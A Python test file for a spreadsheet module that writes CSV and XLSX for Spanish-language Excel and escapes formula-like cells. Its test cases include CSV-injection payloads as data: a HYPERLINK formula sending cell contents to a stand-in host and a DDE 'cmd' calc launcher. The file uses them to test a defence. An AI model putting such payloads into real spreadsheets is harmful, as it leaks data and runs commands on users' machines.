"""Writing tables for a Spanish-language Excel, and reading back what was written."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from comuna.core.spreadsheets import Column, csv_cell_read, sheet_read, write_csv, write_xlsx


def test_an_xlsx_round_trip_keeps_text_as_text_and_dates_as_dates() -> None:
    content = write_xlsx(
        ["hogar", "nombres", "fecha"],
        [["0012", "=1+1", dt.date(2001, 2, 3)], ["7", "Ana\x01", dt.date(1999, 1, 1)]],
        title="censo",
    )
    columns = [Column("hogar"), Column("nombres"), Column("fecha")]
    assert list(sheet_read(content, columns, filename="x.xlsx")) == [
        (2, {"hogar": "0012", "nombres": "=1+1", "fecha": "2001-02-03"}),
        (3, {"hogar": "7", "nombres": "Ana", "fecha": "1999-01-01"}),
    ]


def test_a_csv_is_written_for_a_spanish_excel() -> None:
    content = write_csv(["a", "b"], [["x;y", dt.date(2001, 2, 3)]])
    assert content == '\ufeffa;b\r\n"x;y";03/02/2001\r\n'.encode()


FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
PLAIN_NUMBER = re.compile(r"[+-]?(?:\d[\d.,]*|[.,]\d[\d.,]*)")


def written_cell(text: str) -> str:
    """``text`` as a spreadsheet reads it from the CSV we write."""
    content = write_csv(["a"], [[text]]).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(content, newline=""), delimiter=";"))
    return rows[1][0]


@given(st.text())
def test_no_written_csv_cell_starts_like_a_formula_unless_it_is_a_plain_number(
    text: str,
) -> None:
    cell = written_cell(text)
    assert not cell.startswith(FORMULA_STARTS) or PLAIN_NUMBER.fullmatch(cell)
    # …and it reads back as it was.
    assert csv_cell_read(cell) == text


@pytest.mark.parametrize(
    ("text", "written"),
    [
        (
            '=HYPERLINK("http://x.example/?"&A1,"Ver")',
            '\'=HYPERLINK("http://x.example/?"&A1,"Ver")',
        ),
        ("+58 412 555 0101", "'+58 412 555 0101"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\tTab", "'\tTab"),
        ("'=ya citado", "''=ya citado"),
        ("-1250.50", "-1250.50"),
        ("-1.250,50", "-1.250,50"),
        ("+7", "+7"),
        ("María José", "María José"),
    ],
)
def test_formulas_get_a_quote_and_plain_numbers_stay_readable(text: str, written: str) -> None:
    assert written_cell(text) == written


def test_an_xlsx_writes_a_formula_like_name_as_text_never_as_a_formula() -> None:
    content = write_xlsx(["nombres"], [['=HYPERLINK("http://x.example")']], title="censo")
    cell = load_workbook(io.BytesIO(content))["censo"]["A2"]
    assert cell.data_type == "s" and cell.value == '=HYPERLINK("http://x.example")'
